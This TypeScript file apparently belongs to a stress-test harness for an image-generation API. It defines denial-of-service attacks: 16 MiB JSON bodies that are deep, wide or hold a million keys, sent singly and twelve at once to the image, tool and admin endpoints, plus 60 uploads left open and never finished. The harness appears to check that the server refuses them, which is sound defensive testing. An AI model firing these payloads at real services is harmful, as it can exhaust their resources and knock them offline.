import { type Attack, refusals } from "../attack.ts"
import { agentOf, ask, lanes, pause } from "../requests.ts"
import type { Sent } from "../sent.ts"
import { headOf, hold, release } from "../sockets.ts"
import { shareOf, type Target } from "../target.ts"

/** What a body may have at most, where it is one of `blend`. */
const bodyBytesMax = 16 * 1024 * 1024

/** As many of `piece` as fill a body of the largest size. */
const filled = (before: string, piece: string, after: string): Buffer => {
  const room = bodyBytesMax - before.length - after.length
  const inner = piece.repeat(Math.floor(room / piece.length))
  return Buffer.from(`${before}${inner.slice(0, -1)}${after}`)
}

const blend = '"model":"artgen","generation_type":"blend"'

const keysOf = (count: number): string =>
  Array.from({ length: count }, (_, index) => `"k${index}":0`).join(",")

/** Bodies that cost most where they are parsed before they are counted. */
const makeShapes = (): ReadonlyArray<Buffer> => {
  const deep = Math.floor(bodyBytesMax / 2) - 100
  return [
    filled(`{${blend},"images":[`, "[],", "]}"),
    filled(`{${blend},"images":[`, "{},", "]}"),
    Buffer.from(`{${blend},"metadata":{${keysOf(1_000_000)}}}`),
    Buffer.from(`{${blend},"images":${"[".repeat(deep)}${"]".repeat(deep)}}`),
    filled(`{${blend},"images":[`, "1e9,", "]}"),
    filled(`{${blend},"images":["`, "\\u0000", '"]}'),
    filled(`{${blend},"images":[`, '"",', "]}"),
  ]
}

/** Made when they are first needed: a hundred megabytes. */
let made: ReadonlyArray<Buffer> | undefined
const shapes = (): ReadonlyArray<Buffer> => {
  made ??= makeShapes()
  return made
}

const paths = ["/v1/images/tasks", "/v1/images/quote", "/v1/images/generations"]

const sendBodies = async (
  target: Target,
  sent: Sent,
  width: number,
  where: ReadonlyArray<string>,
  key = target.poor,
) => {
  const bodies = shapes()
  const agent = agentOf(width)
  await lanes(Math.max(1, Math.ceil(width * target.share)), target.seconds, async (turn) => {
    const body = bodies[turn % bodies.length] ?? ""
    const path = where[turn % where.length] ?? "/"
    sent.answer(
      await ask(target, { path, key, body, agent, headers: { "idempotency-key": `bodies-${turn}` } }),
    )
    // A key that was told to wait costs the server nothing: the attack is what comes before.
    if (sent.counts["429 rate_limited"] !== undefined) await pause(100)
  })
  agent.destroy()
}

export const bodies: ReadonlyArray<Attack> = [
  {
    name: "json-one",
    about: "JSON bodies of 16 MiB, wide, deep and with a million keys, one after another",
    allowed: refusals,
    send: (target, sent) => sendBodies(target, sent, 1, paths),
  },
  {
    name: "json-twelve",
    about: "the same bodies, twelve at once",
    allowed: refusals,
    send: (target, sent) => sendBodies(target, sent, 12, paths),
  },
  {
    name: "json-elsewhere",
    about: "the same bodies to the tools and the admin API, twelve at once",
    allowed: refusals,
    send: async (target, sent) => {
      await sendBodies({ ...target, seconds: target.seconds / 2 }, sent, 12, [
        "/v1/tools/text-md-json/invoke",
      ])
      const admin = ["/admin/v1/users", `/admin/v1/users/${target.rich.user}/grants`]
      await sendBodies({ ...target, seconds: target.seconds / 2 }, sent, 12, admin, target.adminToken)
    },
  },
  {
    name: "unfinished-bodies",
    about: "60 bodies of 15 MiB of 16, which never end, of one key without money",
    allowed: refusals,
    send: async (target, sent) => {
      const bytes = filled(`{${blend},"images":["`, "a", '"]}').subarray(0, 15 * 1024 * 1024)
      const held = Array.from({ length: shareOf(target, 60) }, (_, index) => {
        const path = paths[index % paths.length] ?? "/"
        const each = hold(target, headOf(path, target.poor, bodyBytesMax))
        each.socket.write(bytes)
        return each
      })
      await pause(target.seconds * 1000)
      release(held, sent)
    },
  },
]
